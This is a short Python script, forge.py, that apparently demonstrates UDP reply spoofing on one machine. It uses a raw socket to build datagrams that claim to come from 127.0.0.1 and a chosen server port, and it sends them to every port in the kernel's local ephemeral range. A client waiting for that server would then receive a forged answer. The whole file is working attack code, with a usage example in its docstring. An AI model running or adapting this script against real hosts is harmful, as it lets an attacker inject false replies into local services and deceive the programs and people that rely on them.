#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""forge.py - answer in a server's name, without being asked

usage: forge.py <server's port> <word>

Sends the word to every port of this machine that a client may have got
from the kernel, with 127.0.0.1 and the server's port as the sender.
Needs the right to make packets of its own (CAP_NET_RAW).
Try, while a client waits: python3 forge.py 7777 'trust me'
"""
import socket
import struct
import sys

RANGE = "/proc/sys/net/ipv4/ip_local_port_range"
HEADER_SIZE = 8


def make_datagram(sender, receiver, word):
    """UDP's header and the word; a checksum of 0 stands for none."""
    return struct.pack("!HHHH", sender, receiver,
                       HEADER_SIZE + len(word), 0) + word


def main():
    if len(sys.argv) != 3 or not sys.argv[1].isdecimal():
        sys.exit("USAGE: forge.py <server's port> <word>")
    port, word = int(sys.argv[1]), sys.argv[2].encode()
    with open(RANGE, encoding="ascii") as limits:
        first, last = map(int, limits.read().split())
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_RAW,
                           socket.IPPROTO_UDP) as raw:
            raw.bind(("127.0.0.1", 0))
            for receiver in range(first, last + 1):
                raw.sendto(make_datagram(port, receiver, word),
                           ("127.0.0.1", 0))
    except OSError as error:
        sys.exit(f"forge.py: {error.strerror}")
    print(f"{last - first + 1} forged answers are sent")


if __name__ == "__main__":
    main()
